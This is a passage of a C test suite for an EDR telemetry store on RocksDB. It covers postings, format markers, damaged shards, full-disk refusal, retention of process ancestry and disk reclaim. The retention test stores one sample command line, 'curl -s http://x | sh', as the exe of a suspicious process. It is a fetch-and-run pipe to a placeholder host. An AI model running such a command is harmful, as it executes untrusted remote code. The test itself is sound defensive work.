    *vbytes = 0;
    for (rocksdb_iter_seek(it, "f", 1); rocksdb_iter_valid(it); rocksdb_iter_next(it)) {
        size_t kl, vl;
        const char *k = rocksdb_iter_key(it, &kl);
        rocksdb_iter_value(it, &vl);
        if (k[0] != 'f') break;
        assert_int_equal(kl, 1 + 8 + BREF_LEN);
        n++;
        *vbytes += vl;
        if (vl) {
            ++*grouped;
            memcpy(gk, k, kl);
        }
    }
    rocksdb_iter_destroy(it);
    return n;
}

/* A path and an address every host names are one posting key per commit
 * (its other blocks in the value), not one per block: each block is still
 * found once, in order (host, then seq), within a time window; a batch
 * whose add failed leaves no posting behind and is found once when added
 * again. A damaged list of blocks fails the query (not a crash, not a
 * short answer). */
static void test_postings_gathered(void **state)
{
    (void)state;
    edr_store_writer_t *w = open_writer();
    enum { H = 6, SEQS = 6 };
    uint8_t hid[H][16], ent[16], ip[4] = {192, 0, 2, 7};
    memset(ent, 0x31, 16);
    uint64_t base = 1767225600000000000ull; /* 2026-01-01, on the hour */
    char uniq[64];
    Edr__V1__FileWrite fw = EDR__V1__FILE_WRITE__INIT, fu = EDR__V1__FILE_WRITE__INIT;
    Edr__V1__Endpoint rem = EDR__V1__ENDPOINT__INIT;
    Edr__V1__Network net = EDR__V1__NETWORK__INIT;
    Edr__V1__Event e[3] = {EDR__V1__EVENT__INIT, EDR__V1__EVENT__INIT, EDR__V1__EVENT__INIT};
    Edr__V1__Event *evs[3] = {&e[0], &e[1], &e[2]};
    fw.path = "/var/log/shared.log";
    fu.path = uniq;
    rem.ip.data = ip;
    rem.ip.len = 4;
    rem.port = 443;
    net.remote = &rem;
    e[0].body_case = EDR__V1__EVENT__BODY_FILE_WRITE;
    e[0].file_write = &fw;
    e[1].body_case = EDR__V1__EVENT__BODY_FILE_WRITE;
    e[1].file_write = &fu;
    e[2].body_case = EDR__V1__EVENT__BODY_NETWORK;
    e[2].network = &net;
    for (int i = 0; i < 3; i++) {
        e[i].entity_id.data = e[i].parent_entity_id.data = ent;
        e[i].entity_id.len = e[i].parent_entity_id.len = 16;
        e[i].time_offset_ns = i;
    }
    for (int h = 0; h < H; h++)
        memset(hid[h], 0x60 + h, 16);
    /* seqs 1-4 of every host in one commit (host 2's seq 3 fails once, then
     * is added again), 5-6 in a second one, an hour later */
    for (int c = 0; c < 2; c++) {
        for (uint64_t seq = c ? 5 : 1; seq <= (c ? 6u : 4u); seq++)
            for (int h = 0; h < H; h++) {
                uint64_t t = base + (uint64_t)c * 3600000000000ull + seq * 1000000;
                snprintf(uniq, sizeof(uniq), "/tmp/u.%d.%llu", h, (unsigned long long)seq);
                if (h == 2 && seq == 3) {
                    edr__store_fail_add = 1;
                    assert_int_equal(add_uncommitted(w, hid[h], seq, t, evs, 3), EDR_ENOMEM);
                }
                assert_int_equal(add_uncommitted(w, hid[h], seq, t, evs, 3), 0);
            }
        assert_int_equal(edr_store_writer_commit(w), 0);
    }
    edr_store_writer_destroy(w);

    edr_store_t *r = open_reader();
    edr_block_key_t got[H * SEQS + 2];
    memset(got, 0, sizeof(got));
    assert_int_equal(edr_store_file_blocks(r, "/var/log/shared.log", 0, 0, blk_keys, got), 0);
    for (int i = 0; i < H * SEQS; i++) { /* host numbers follow first appearance */
        assert_memory_equal(got[i].host_id, hid[i / SEQS], 16);
        assert_int_equal(got[i].seq, (uint64_t)(i % SEQS) + 1);
    }
    assert_int_equal(got[H * SEQS].seq, 0); /* nothing more */
    memset(got, 0, sizeof(got));
    assert_int_equal(edr_store_remote_blocks(r, ip, 4, 0, 0, blk_keys, got), 0);
    for (int i = 0; i < H * SEQS; i++)
        assert_int_equal(got[i].seq, (uint64_t)(i % SEQS) + 1);
    assert_int_equal(got[H * SEQS].seq, 0);
    uint64_t n = 0;
    assert_int_equal(edr_store_file_blocks(r, "/tmp/u.2.3", 0, 0, count_blk, &n), 0);
    assert_int_equal(n, 1);
    n = 0; /* the second hour only */
    assert_int_equal(
        edr_store_file_blocks(r, "/var/log/shared.log", base + 3600000000000ull, 0, count_blk, &n),
        0);
    assert_int_equal(n, H * 2);
    edr_store_destroy(r);

    raw_t x;
    raw_open(&x);
    int grouped;
    size_t vbytes;
    uint8_t gk[1 + 8 + BREF_LEN];
    /* the shared path: a key per commit; each unique path: its own. Its
     * other blocks take 2 bytes each (host number step, seq): 23 + 11 of
     * them, none left by the failed add */
    assert_int_equal(file_keys(&x, &grouped, &vbytes, gk), 2 + H * SEQS);
    assert_int_equal(grouped, 2);
    assert_int_equal(vbytes, (H * 4 - 1) * 2 + (H * 2 - 1) * 2);
    /* the key's block named again in its value (a step of 0 and 0) is
     * reported once */
    static const uint8_t again[4] = {0, 0, 0, 0};
    raw_put(&x, CF_POST, gk, sizeof(gk), again, sizeof(again));
    raw_close(&x);
    r = open_reader();
    n = 0;
    assert_int_equal(edr_store_file_blocks(r, "/var/log/shared.log", 0, 0, count_blk, &n), 0);
    assert_int_equal(n, H * SEQS - H * 2 + 1); /* the second commit's group: its head alone */
    edr_store_destroy(r);
    raw_open(&x);
    /* damaged: a varint cut short; a seq cut short; a host number below 0;
     * one past 2^32 (a step of INT64_MAX); more blocks than a group holds */
    static uint8_t bad[5][2 * POST_GROUP_MAX + 2];
    size_t bl[5] = {1, 2, 2, 11, sizeof(bad[4])};
    memcpy(bad[0], "\x80", 1);
    memcpy(bad[1], "\x02\x81", 2);
    memcpy(bad[2], "\x0b\x01", 2);
    memcpy(bad[3], "\xfe\xff\xff\xff\xff\xff\xff\xff\xff\x01\x01", 11);
    for (size_t i = 0; i < sizeof(bad[4]); i += 2) { /* +1 host each: no repeat */
        bad[4][i] = 2;
        bad[4][i + 1] = 1;
    }
    for (size_t i = 0; i < 5; i++) {
        raw_put(&x, CF_POST, gk, sizeof(gk), bad[i], bl[i]);
        raw_close(&x);
        r = open_reader();
        n = 0;
        assert_int_equal(edr_store_file_blocks(r, "/var/log/shared.log", 0, 0, count_blk, &n),
                         EDR_ESTORE);
        edr_store_destroy(r);
        raw_open(&x);
    }
    raw_close(&x);
}

/* A commit whose batches fall in two hours makes a group per hour: each
 * block is found under its own hour (a group across hours would name its
 * later blocks under the first one's hour, where they are not). A group of
 * more than POST_GROUP_MAX blocks is cut into several keys, every block
 * found. */
static void test_postings_per_hour_and_long_groups(void **state)
{
    (void)state;
    edr_store_writer_t *w = open_writer();
    uint8_t hid[16], ent[16];
    memset(ent, 0x31, 16);
    Edr__V1__FileWrite fw = EDR__V1__FILE_WRITE__INIT;
    Edr__V1__Event e = EDR__V1__EVENT__INIT, *ev = &e;
    fw.path = "/var/log/hours.log";
    e.body_case = EDR__V1__EVENT__BODY_FILE_WRITE;
    e.file_write = &fw;
    e.entity_id.data = e.parent_entity_id.data = ent;
    e.entity_id.len = e.parent_entity_id.len = 16;
    uint64_t base = 1767225600000000000ull, hour = 3600000000000ull;
    enum { LONG = POST_GROUP_MAX + 1500 };
    for (uint64_t seq = 1; seq <= 4; seq++) { /* hours 0, 3, 0, 3 */
        memset(hid, 0x70 + (int)seq, 16);
        assert_int_equal(add_uncommitted(w, hid, seq, base + (seq % 2 ? 0 : 3 * hour), &ev, 1), 0);
    }
    assert_int_equal(edr_store_writer_commit(w), 0);
    fw.path = "/var/log/long.log";
    memset(hid, 0x7f, 16);
    for (uint64_t seq = 10; seq < 10 + LONG; seq++)
        assert_int_equal(add_uncommitted(w, hid, seq, base + seq * 1000, &ev, 1), 0);
    assert_int_equal(edr_store_writer_commit(w), 0);
    edr_store_writer_destroy(w);

    edr_store_t *r = open_reader();
    uint64_t n0 = 0, n3 = 0, all = 0;
    assert_int_equal(
        edr_store_file_blocks(r, "/var/log/hours.log", base, base + hour, count_blk, &n0), 0);
    assert_int_equal(edr_store_file_blocks(r, "/var/log/hours.log", base + 3 * hour,
                                           base + 4 * hour, count_blk, &n3),
                     0);
    assert_int_equal(edr_store_file_blocks(r, "/var/log/hours.log", 0, 0, count_blk, &all), 0);
    assert_int_equal(n0, 2);
    assert_int_equal(n3, 2);
    assert_int_equal(all, 4);
    all = 0;
    assert_int_equal(edr_store_file_blocks(r, "/var/log/long.log", 0, 0, count_blk, &all), 0);
    assert_int_equal(all, LONG);
    edr_store_destroy(r);
}

/* A store written before the format marker (none in meta) gets it from the
 * first writer that opens it, and reads as before. */
static void test_format_marker_written(void **state)
{
    (void)state;
    edr_store_writer_destroy(open_writer());
    raw_t x;
    raw_open(&x);
    char *rerr = NULL;
    rocksdb_delete_cf(x.db, x.wo, x.cf[CF_META], EDR__META_FORMAT, strlen(EDR__META_FORMAT), &rerr);
    assert_null(rerr);
    raw_close(&x);
    edr_store_destroy(open_reader()); /* no marker: a store of format 1, read */
    edr_store_writer_destroy(open_writer());
    raw_open(&x);
    size_t vl = 0;
    char *v = rocksdb_get_cf(x.db, x.ro, x.cf[CF_META], EDR__META_FORMAT, strlen(EDR__META_FORMAT),
                             &vl, &rerr);
    assert_null(rerr);
    assert_non_null(v);
    assert_int_equal(vl, 4);
    assert_int_equal(edr__rd32((const uint8_t *)v), EDR__STORE_FORMAT);
    rocksdb_free(v);
    raw_close(&x);
}

/* A store a newer edr wrote (its format marker says so) is refused by
 * readers and writers with a reason; so is a damaged marker. */
static void test_newer_format_refused(void **state)
{
    (void)state;
    edr_store_writer_destroy(open_writer());
    static const uint8_t v[2][4] = {{0, 0, 0, EDR__STORE_FORMAT + 1}, {0, 9}};
    for (int i = 0; i < 2; i++) {
        raw_t x;
        raw_open(&x);
        raw_put(&x, CF_META, EDR__META_FORMAT, strlen(EDR__META_FORMAT), v[i], i ? 2 : 4);
        raw_close(&x);
        char err[512];
        const char *why = i ? "format marker is damaged" : "written by a newer edr";
        assert_null(edr_store_open(dir, NULL, err, sizeof(err)));
        assert_non_null(strstr(err, why));
        assert_null(edr_store_writer_open(dir, 0, NULL, err, sizeof(err)));
        assert_non_null(strstr(err, why));
    }
}

static void test_open_errors(void **state)
{
    (void)state;
    char err[512];
    assert_null(edr_store_open("/nonexistent/edr-store", NULL, err, sizeof(err)));
    assert_non_null(strstr(err, "/nonexistent/edr-store"));
    assert_null(edr_store_open(dir, NULL, err, sizeof(err))); /* empty dir: no shard */
    assert_non_null(strstr(err, "no shard"));
}

/* A full file system: the commit that does not fit is refused with EDR_EIO
 * before RocksDB appends it to its write-ahead log (an append that fails with
 * ENOSPC aborts the process in Debian's RocksDB, built with assertions), the
 * process lives on, and once there is room the same batch commits and what
 * was committed before is still there. Needs root for the tmpfs. */
static void test_full_disk_refused(void **state)
{
    (void)state;
    char err[256];
    if (geteuid() != 0 || mount("tmpfs", dir, "tmpfs", MS_NOSUID | MS_NODEV, "size=6m,mode=0700")) {
        print_message("SKIP: needs root to mount a small tmpfs\n");
        skip();
    }
    edr_store_writer_t *w = edr_store_writer_open(dir, 0, NULL, err, sizeof(err));
    assert_non_null(w);
    edr_synth_opts_t so = {.hosts = 1, .seed = 11};
    edr_synth_t *s = edr_synth_new(&so);
    edr_frame_ctx_t *enc = edr_frame_ctx_new(NULL), *dec = edr_frame_ctx_new(NULL);
    edr_arena_t a;
    edr_arena_init(&a, 1 << 20);
    int rc = 0, committed = 0;
    const uint8_t *fr = NULL;
    size_t fl = 0;
    Edr__V1__EventBatch *d = NULL;
    for (int i = 0; i < 5000 && rc == 0; i++) {
        edr_arena_reset(&a);
        Edr__V1__EventBatch *b = edr_synth_next_batch(s, 0, 1000, &a);
        assert_non_null(b);
        assert_int_equal(edr_frame_encode(enc, b, 0, &fr, &fl), 0);
        assert_int_equal(edr_frame_decode(dec, fr, fl, &d), 0);
        assert_int_equal(edr_store_writer_add(w, fr, fl, d), 0);
        edr_store_writer_set_offset(w, i + 1);
        if ((rc = edr_store_writer_commit(w)) == 0) committed++;
    }
    assert_int_equal(rc, EDR_EIO);
    assert_true(committed > 10);
    edr_store_writer_destroy(w);
    assert_int_equal(mount("tmpfs", dir, "tmpfs", MS_REMOUNT | MS_NOSUID | MS_NODEV, "size=256m,mode=0700"), 0);
    w = edr_store_writer_open(dir, 0, NULL, err, sizeof(err));
    assert_non_null(w);
    int64_t next = -1;
    assert_int_equal(edr_store_writer_offset(w, &next), 0);
    assert_int_equal(next, committed); /* resumes after the last batch that fit */
    assert_int_equal(edr_store_writer_add(w, fr, fl, d), 0); /* the refused batch: new */
    edr_store_writer_set_offset(w, committed + 1);
    assert_int_equal(edr_store_writer_commit(w), 0);
    edr_store_writer_destroy(w);
    edr_arena_close(&a);
    edr_frame_ctx_destroy(enc);
    edr_frame_ctx_destroy(dec);
    edr_synth_destroy(s);
    nftw(dir, rm_one, 16, FTW_DEPTH | FTW_PHYS);
    assert_int_equal(umount(dir), 0);
}

/* Copies the files of directory from into to (made here); 0 or -1. */
static int copy_dir(const char *from, const char *to)
{
    DIR *d = opendir(from);
    if (!d || mkdir(to, 0700)) return -1;
    struct dirent *de;
    int rc = 0;
    while (rc == 0 && (de = readdir(d))) {
        if (de->d_name[0] == '.') continue;
        char a[1024], b[1024], buf[65536];
        snprintf(a, sizeof(a), "%s/%s", from, de->d_name);
        snprintf(b, sizeof(b), "%s/%s", to, de->d_name);
        FILE *in = fopen(a, "rb"), *out = fopen(b, "wb");
        size_t n;
        while (in && out && (n = fread(buf, 1, sizeof(buf), in)) > 0)
            if (fwrite(buf, 1, n, out) != n) rc = -1;
        if (!in || !out) rc = -1;
        if (in) fclose(in);
        if (out && fclose(out)) rc = -1;
    }
    closedir(d);
    return rc;
}

/* A store nothing writes is opened read-only: a table file that is cut
 * short or missing fails the open, naming the shard (a secondary instance
 * left the file out and answered from the rest: an empty host list, "not in
 * the store", exit 0; review-1206k 1). An operator's copy of a shard
 * ("shard-0000.bak") is not read as one more shard (every host and event
 * came twice), and an empty shard directory (a writer making it) is passed
 * over. */
static void test_reader_damaged_store(void **state)
{
    (void)state;
    char err[1024], p[512], big[1024] = "";
    edr_store_writer_t *w = edr_store_writer_open(dir, 0, NULL, err, sizeof(err));
    assert_non_null(w);
    fill(w, 4);
    edr_store_writer_destroy(w); /* flushed: the families are table files */
    edr_store_t *r = open_reader();
    edr_store_stats_t ss;
    assert_int_equal(edr_store_stats(r, &ss), 0);
    uint64_t blocks = ss.blocks;
    assert_int_equal(blocks, HOSTS * BATCHES);
    edr_store_destroy(r);

    snprintf(p, sizeof(p), "%s/shard-0000", dir);
    char bak[512];
    snprintf(bak, sizeof(bak), "%s/shard-0000.bak", dir);
    assert_int_equal(copy_dir(p, bak), 0);
    snprintf(p, sizeof(p), "%s/shard-0007", dir);
    assert_int_equal(mkdir(p, 0700), 0);
    r = open_reader();
    assert_int_equal(edr_store_shards(r), 1);
    assert_int_equal(edr_store_stats(r, &ss), 0);
    assert_int_equal(ss.blocks, blocks);
    edr_store_destroy(r);

    /* the largest table file (the blocks), cut in half */
    snprintf(p, sizeof(p), "%s/shard-0000", dir);
    DIR *d = opendir(p);
    assert_non_null(d);
    struct dirent *de;
    off_t most = 0;
    while ((de = readdir(d))) {
        char f[1024];
        struct stat st;
        snprintf(f, sizeof(f), "%s/%s", p, de->d_name);
        if (strstr(de->d_name, ".sst") && stat(f, &st) == 0 && st.st_size > most) {
            most = st.st_size;
            snprintf(big, sizeof(big), "%s", f);
        }
    }
    closedir(d);
    assert_true(most > 0);
    assert_int_equal(truncate(big, most / 2), 0);
    assert_null(edr_store_open(dir, NULL, err, sizeof(err)));
    assert_non_null(strstr(err, "shard-0000"));
    assert_non_null(strstr(err, "Corruption"));
    /* and removed */
    assert_int_equal(unlink(big), 0);
    assert_null(edr_store_open(dir, NULL, err, sizeof(err)));
    assert_non_null(strstr(err, "shard-0000"));
}

/* One batch of host hid at time t: an exec of exe by ent (child of par),
 * or, with exe NULL, the sensor's inventory listing the n processes of
 * ids[] with their parents pars[]; committed. */
static void add_chain_batch(edr_store_writer_t *w, edr_frame_ctx_t *enc, const uint8_t hid[16],
                            uint64_t seq, uint64_t t, const uint8_t *ent, const uint8_t *par,
                            const char *exe, uint8_t (*ids)[16], uint8_t (*pars)[16], size_t n)
{
    Edr__V1__SensorInfo si = EDR__V1__SENSOR_INFO__INIT;
    si.host_id.data = (uint8_t *)hid;
    si.host_id.len = 16;
    si.hostname = "chain-host";
    Edr__V1__ProcessStart ps = EDR__V1__PROCESS_START__INIT;
    Edr__V1__ProcessInventory inv = EDR__V1__PROCESS_INVENTORY__INIT;
    Edr__V1__ProcessInventory__Entry en[8], *enp[8];
    Edr__V1__Event e = EDR__V1__EVENT__INIT, *ev = &e;
    if (exe) {
        ps.exe = ps.command_line = (char *)exe;
        e.entity_id.data = (uint8_t *)ent;
        e.entity_id.len = 16;
        e.parent_entity_id.data = (uint8_t *)par;
        e.parent_entity_id.len = par ? 16 : 0;
        e.pid = ent[0];
        e.body_case = EDR__V1__EVENT__BODY_PROCESS_START;
        e.process_start = &ps;
    } else {
        for (size_t i = 0; i < n; i++) {
            edr__v1__process_inventory__entry__init(&en[i]);
            en[i].entity_id.data = ids[i];
            en[i].entity_id.len = 16;
            en[i].parent_entity_id.data = pars[i];
            en[i].parent_entity_id.len = i ? 16 : 0; /* the first: pid 1 */
            enp[i] = &en[i];
        }
        inv.processes = enp;
        inv.n_processes = n;
        e.body_case = EDR__V1__EVENT__BODY_PROCESS_INVENTORY;
        e.process_inventory = &inv;
    }
    Edr__V1__EventBatch b = EDR__V1__EVENT_BATCH__INIT;
    b.schema_version = 1;
    b.sensor = &si;
    b.seq = seq;
    b.base_time_ns = t;
    b.n_events = 1;
    b.events = &ev;
    const uint8_t *fr;
    size_t fl;
    Edr__V1__EventBatch *d;
    edr_frame_ctx_t *dec = edr_frame_ctx_new(NULL);
    assert_int_equal(edr_frame_encode(enc, &b, 0, &fr, &fl), 0);
    assert_int_equal(edr_frame_decode(dec, fr, fl, &d), 0); /* as the collector has it */
    assert_int_equal(edr_store_writer_add(w, fr, fl, d), 0);
    assert_int_equal(edr_store_writer_commit(w), 0);
    edr_frame_ctx_destroy(dec);
}

/* A refresh after the writer flushed what the reader had replayed from the
 * write-ahead log applies each merge once (a secondary's catch-up applied
 * them twice: exec_count 3 where 2 were stored, review-1206k 3), and finds a
 * shard made after the reader opened. */
static void test_refresh_after_flush(void **state)
{
    const uint64_t T0S = 1767225600000000000ull;
    (void)state;
    char err[512];
    uint8_t hid[16] = {0x31}, hid2[16] = {0x32}, ent[16];
    memset(ent, 0xe1, 16);
    edr_frame_ctx_t *enc = edr_frame_ctx_new(NULL);
    edr_store_writer_t *w = edr_store_writer_open(dir, 0, NULL, err, sizeof(err));
    assert_non_null(w);
    add_chain_batch(w, enc, hid, 1, T0S + 1, ent, NULL, "/bin/first", NULL, NULL, 0); /* in the write-ahead log only */
    edr_store_t *r = open_reader();
    edr_arena_t a;
    edr_arena_init(&a, 4096);
    Edr__V1__ProcessRecord *p;
    assert_int_equal(edr_store_process_get(r, ent, &a, &p), 0);
    assert_int_equal(p->exec_count, 1);
    add_chain_batch(w, enc, hid, 2, T0S + 2, ent, NULL, "/bin/second", NULL, NULL, 0);
    assert_int_equal(edr_store_writer_compact(w), 0); /* flushed and compacted */
    edr_store_writer_t *w2 = edr_store_writer_open(dir, 1, NULL, err, sizeof(err));
    assert_non_null(w2);
    add_chain_batch(w2, enc, hid2, 1, T0S + 3, hid2, NULL, "/bin/other", NULL, NULL, 0);
    assert_int_equal(edr_store_refresh(r), 0);
    edr_arena_reset(&a);
    assert_int_equal(edr_store_process_get(r, ent, &a, &p), 0);
    assert_int_equal(p->exec_count, 2);
    assert_string_equal(p->exe, "/bin/second");
    assert_int_equal(edr_store_shards(r), 2);
    edr_arena_reset(&a);
    assert_int_equal(edr_store_process_get(r, hid2, &a, &p), 0);
    edr_arena_close(&a);
    edr_store_destroy(r);
    edr_store_writer_destroy(w2);
    edr_store_writer_destroy(w);
    edr_frame_ctx_destroy(enc);
}

static int count_rec(const Edr__V1__ProcessRecord *p, void *ud)
{
    (void)p;
    (*(int *)ud)++;
    return 0;
}

/* Retention keeps the running ancestors of an active process while their
 * sensor lists them. init -> sshd -> session -> bash started in hour 0 and
 * only fork; a command of bash acts in hour 5; retention keeps hours 3 and
 * up. Without an inventory the command's ancestry ended at bash (the
 * records of session, sshd and init retired: each kept only while a child
 * of its own acted, review-1206k 2) and sshd's children went with its
 * entry; with the sensor's inventory of hour 4 the whole chain stays, with
 * every parent's children. */
static void test_retention_keeps_running_ancestors(void **state)
{
    (void)state;
    char err[512], sub[600];
    const uint64_t t0 = 1767225600000000000ull, hr = EDR_STORE_BUCKET_NS;
    uint8_t hid[16] = {0xaa}, ids[5][16], pars[5][16];
    for (int i = 0; i < 5; i++) {
        memset(ids[i], 0xa0 + 0x10 * i, 16);
        if (i) memcpy(pars[i], ids[i - 1], 16);
    }
    static const char *const exes[5] = {"/sbin/init", "/usr/sbin/sshd", "sshd: alice [priv]",
                                        "/bin/bash", "/usr/bin/curl -s http://x | sh"};
    edr_frame_ctx_t *enc = edr_frame_ctx_new(NULL);
    for (int inventory = 0; inventory < 2; inventory++) {
        snprintf(sub, sizeof(sub), "%s/%d", dir, inventory);
        edr_store_writer_t *w = edr_store_writer_open(sub, 0, NULL, err, sizeof(err));
        assert_non_null(w);
        uint64_t seq = 1;
        for (int i = 0; i < 4; i++)
            add_chain_batch(w, enc, hid, seq++, t0 + (uint64_t)i, ids[i], i ? pars[i] : NULL,
                            exes[i], NULL, NULL, 0);
        if (inventory)
            add_chain_batch(w, enc, hid, seq++, t0 + 4 * hr, NULL, NULL, NULL, ids, pars, 4);
        add_chain_batch(w, enc, hid, seq++, t0 + 5 * hr, ids[4], pars[4], exes[4], NULL, NULL, 0);
        assert_int_equal(edr_store_writer_retire(w, t0 + 3 * hr), 0);
        assert_int_equal(edr_store_writer_compact(w), 0);
        assert_int_equal(edr_store_writer_compact(w), 0);
        edr_store_writer_destroy(w);
        edr_store_t *r = edr_store_open(sub, NULL, err, sizeof(err));
        assert_non_null(r);
        int n = 0;
        assert_int_equal(edr_store_process_ancestry(r, ids[4], 0, count_rec, &n), 0);
        assert_int_equal(n, inventory ? 5 : 2);
        for (int i = 0; i < 4; i++) {
            int kids = 0;
            assert_int_equal(edr_store_process_children(r, ids[i], count_rec, &kids), 0);
            if (inventory || i == 3) assert_int_equal(kids, 1);
        }
        edr_store_destroy(r);
    }
    edr_frame_ctx_destroy(enc);
}

enum { RET_N = 200, RET_PER_HOUR = 40 };

/* Writes hours [h0, h1) of file writes with random paths (RET_PER_HOUR
 * batches of RET_N events an hour, from t0) to w; seq numbers the batches,
 * x is the random state. */
static void file_hours(edr_store_writer_t *w, const uint8_t hid[16], uint64_t t0, int h0, int h1,
                       uint64_t *x, uint64_t *seq)
{
    const uint64_t hr = EDR_STORE_BUCKET_NS;
    static char paths[RET_N][48];
    static uint8_t ids[RET_N][16];
    uint8_t par[16];
    memset(par, 0x55, 16);
    Edr__V1__Event ev[RET_N], *evp[RET_N];
    Edr__V1__FileWrite fw[RET_N];
    for (int h = h0; h < h1; h++)
        for (int b = 0; b < RET_PER_HOUR; b++) {
            for (int j = 0; j < RET_N; j++) {
                *x ^= *x << 13, *x ^= *x >> 7, *x ^= *x << 17;
                edr__v1__event__init(&ev[j]);
                edr__v1__file_write__init(&fw[j]);
                memcpy(ids[j], x, 8);
                memcpy(ids[j] + 8, seq, 8);
                snprintf(paths[j], sizeof(paths[j]), "/var/tmp/%016llx/f%d", (unsigned long long)*x,
                         j);
                fw[j].path = paths[j];
                fw[j].bytes = *x & 0xffff;
                ev[j].entity_id.data = ids[j];
                ev[j].parent_entity_id.data = par;
                ev[j].entity_id.len = ev[j].parent_entity_id.len = 16;
                ev[j].pid = (uint32_t)*x;
                ev[j].time_offset_ns = (uint64_t)j * 1000;
                ev[j].body_case = EDR__V1__EVENT__BODY_FILE_WRITE;
                ev[j].file_write = &fw[j];
                evp[j] = &ev[j];
            }
            add_batch(w, hid, (*seq)++, t0 + (uint64_t)h * hr + (uint64_t)b * (hr / RET_PER_HOUR),
                      evp, RET_N);
        }
}

/* Retention frees the disk it retires, not only the keys. 60 hours of file
 * writes (random paths, 8,000 events an hour), 24 hours kept, retention
 * each hour as the collector runs it, the reclaim awaited as an hour of
 * real time would. Before, the blocks' files grew to 2.4x the frames kept
 * by hour 60 (universal compaction merges the last run only at 400 %
 * amplification) and the write-ahead log to ~100 MB (the small families'
 * memtables kept every log: review-1206k-store 5). */
static void retention_hours(int beside)
{
    char err[512];
    const uint64_t t0 = 1767225600000000000ull, hr = EDR_STORE_BUCKET_NS;
    edr_store_opts_t o = {.write_buffer = 1 << 20, .no_wal = beside};
    edr_store_writer_t *w = edr_store_writer_open(dir, 0, &o, err, sizeof(err));
    assert_non_null(w);
    enum { N = RET_N, PER_HOUR = RET_PER_HOUR, HOURS = 60, KEEP = 24 };
    uint8_t hid[16] = {0x66};
    uint64_t x = 88172645463325252ull, seq = 1;
    for (int h = 0; h < HOURS; h++) {
        file_hours(w, hid, t0, h, h + 1, &x, &seq);
        if (h >= KEEP) {
            assert_int_equal(edr_store_writer_retire(w, t0 + (uint64_t)(h + 1 - KEEP) * hr), 0);
            edr__store_writer_reclaim_wait(w, !beside);
        }
        edr_store_writer_tick(w);
        if (h >= 36 && h % 6 == 5) {
            edr_store_cf_stat_t st[CF__COUNT];
            size_t n = edr_store_writer_cf_stats(w, st, CF__COUNT);
            edr_store_t *r = edr_store_open(dir, NULL, err, sizeof(err));
            assert_non_null(r);
            edr_store_stats_t ss;
            assert_int_equal(edr_store_stats(r, &ss), 0);
            edr_store_destroy(r);
            for (size_t i = 0; i < n; i++)
                if (strcmp(st[i].name, "blocks") == 0) {
                    print_message("hour %d: blocks %.1f MB for %.1f MB of frames kept, write-ahead "
                                  "log %.1f MB\n",
                                  h + 1, st[i].sst_bytes / 1e6, ss.frame_bytes / 1e6,
                                  wal_bytes(dir) / 1e6);
                    if (!beside) assert_true(st[i].sst_bytes < ss.frame_bytes * 3 / 2);
                }
            if (!beside) assert_true(wal_bytes(dir) < (24ll << 20));
        }
    }
    unsigned started = edr__store_writer_reclaim_wait(w, 1);
    assert_true(started > 0);
    /* a writer closed during a reclaim: the close cancels it, nothing kept
     * is lost, and the next retention run starts it again */
    uint64_t kept_blocks = 0;
    for (int h = HOURS; h < HOURS + 24 && edr__store_writer_reclaim_wait(w, 0) == started; h++) {
        file_hours(w, hid, t0, h, h + 1, &x, &seq);
        assert_int_equal(edr_store_writer_retire(w, t0 + (uint64_t)(h + 1 - KEEP) * hr), 0);
        kept_blocks = (uint64_t)KEEP * PER_HOUR;
    }
    assert_int_equal(edr__store_writer_reclaim_wait(w, 0), started + 1);
    edr_store_writer_destroy(w); /* at once, the reclaim running */
    edr_store_t *r = edr_store_open(dir, NULL, err, sizeof(err));
    assert_non_null(r);
    edr_store_stats_t ss;
    assert_int_equal(edr_store_stats(r, &ss), 0);
    assert_int_equal(ss.blocks, kept_blocks);
    assert_int_equal(ss.events, kept_blocks * N);
    edr_store_destroy(r);
}

static void test_retention_frees_disk(void **state)
{
    (void)state;
    retention_hours(0);
}

/* The same with the collector's settings (no write-ahead log: atomic
 * flushes of every family) and the reclaims not awaited, so they run
 * beside commits, ticks and flushes, as in a collector (review-1206m 12):
 * every kept block and event is there at the end. */
static void test_reclaim_beside_writes(void **state)
{
    (void)state;
    retention_hours(1);
}

/* A failed write ends the writer, and the reclaim it runs with it: each
 * compaction starts with a flush, which after a failed write to the log
 * aborts Debian's RocksDB 7.8 (review-1206m 9). A reclaim waiting to start
 * when a flush fails compacts nothing and gives back the room it held
 * (review-1206m 12). */
static void test_reclaim_stops_after_failed_write(void **state)
{
    (void)state;
    char err[512];
    const uint64_t t0 = 1767225600000000000ull, hr = EDR_STORE_BUCKET_NS;
    enum { HOURS = 24, KEEP = 6 };
    edr_store_opts_t o = {.write_buffer = 1 << 20, .no_wal = 1, .flush_interval_ns = 1000};
    edr_store_writer_t *w = edr_store_writer_open(dir, 0, &o, err, sizeof(err));
    assert_non_null(w);
    uint8_t hid[16] = {0x71};
    uint64_t x = 88172645463325252ull, seq = 1;
    file_hours(w, hid, t0, 0, HOURS, &x, &seq);
    assert_int_equal(edr_store_writer_tick(w), 0);
    atomic_store(&edr__store_reclaim_gate, 1);
    unsigned compactions = atomic_load(&edr__store_reclaim_compactions);
    assert_int_equal(edr_store_writer_retire(w, t0 + (uint64_t)(HOURS - KEEP) * hr), 0);
    assert_int_equal(edr__store_writer_reclaim_wait(w, 0), 1);
    assert_true(edr__store_reclaim_held() > 0);
    edr__store_fail_flush = 1;
    file_hours(w, hid, t0, HOURS, HOURS + 1, &x, &seq);
    usleep(1000);
    assert_int_equal(edr_store_writer_tick(w), EDR_EIO);
    atomic_store(&edr__store_reclaim_gate, 0);
    assert_int_equal(edr__store_writer_reclaim_wait(w, 1), 1);
    assert_int_equal(atomic_load(&edr__store_reclaim_compactions), compactions);
    assert_int_equal(edr__store_reclaim_held(), 0);
    /* the next retention run of the failed writer starts none */
    assert_int_not_equal(edr_store_writer_retire(w, t0 + (uint64_t)(HOURS - KEEP + 1) * hr), 0);
    assert_int_equal(edr__store_writer_reclaim_wait(w, 1), 1);
    edr_store_writer_destroy(w);
    /* the shard opens again with every kept block (the retention run and
     * the last hour were not flushed: a collector reads them again) */
    edr_store_t *r = edr_store_open(dir, NULL, err, sizeof(err));
    assert_non_null(r);
    edr_store_stats_t ss;
    assert_int_equal(edr_store_stats(r, &ss), 0);
    assert_true(ss.blocks >= (uint64_t)KEEP * RET_PER_HOUR);
    assert_true(ss.blocks <= (uint64_t)(HOURS + 1) * RET_PER_HOUR);
    edr_store_destroy(r);
}

/* Used bytes of the file system holding path. */
static uint64_t fs_used(const char *path)
{
    struct statvfs sv;
    assert_int_equal(statvfs(path, &sv), 0);
